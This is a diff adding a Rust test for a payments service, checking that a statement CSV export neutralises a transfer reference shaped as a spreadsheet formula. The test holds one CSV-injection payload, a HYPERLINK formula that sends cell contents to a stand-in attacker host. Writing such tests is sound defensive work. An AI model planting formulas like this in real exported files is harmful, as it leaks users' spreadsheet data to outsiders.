@@ -56,3 +56,46 @@ async fn the_database_refuses_a_client_account_that_may_go_below_zero(pool: PgPo
         "{error}"
     );
 }
+
+#[sqlx::test(migrations = false)]
+async fn a_statement_csv_shows_a_reference_that_starts_a_formula_as_text(pool: PgPool) {
+    let harness = start(pool).await;
+    let client_id = new_id();
+    let settlement = harness.open_settlement().await;
+    let account = harness.open_client_current(client_id).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")";
+    let mut transfer = common::two_legs(&settlement, &account, "5.00");
+    transfer["reference"] = json!(formula);
+    let paid = harness
+        .post(
+            "/v1/transfers",
+            &harness.service_token(),
+            Some(&new_id().to_string()),
+            &transfer,
+        )
+        .await;
+    assert_eq!(paid.status(), 201, "{}", paid.text().await.unwrap());
+
+    let response = harness
+        .get(
+            &format!("/v1/accounts/{account}/statement.csv"),
+            &harness.founder_token(client_id),
+        )
+        .await;
+
+    assert_eq!(response.status(), 200);
+    let body = response.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let references: Vec<String> = reader
+        .records()
+        .map(|row| row.unwrap()[3].to_owned())
+        .collect();
+    assert!(
+        references.contains(&format!("'{formula}")),
+        "the reference is text: {body}"
+    );
+    assert!(
+        !references.iter().any(|cell| cell.starts_with('=')),
+        "{body}"
+    );
+}
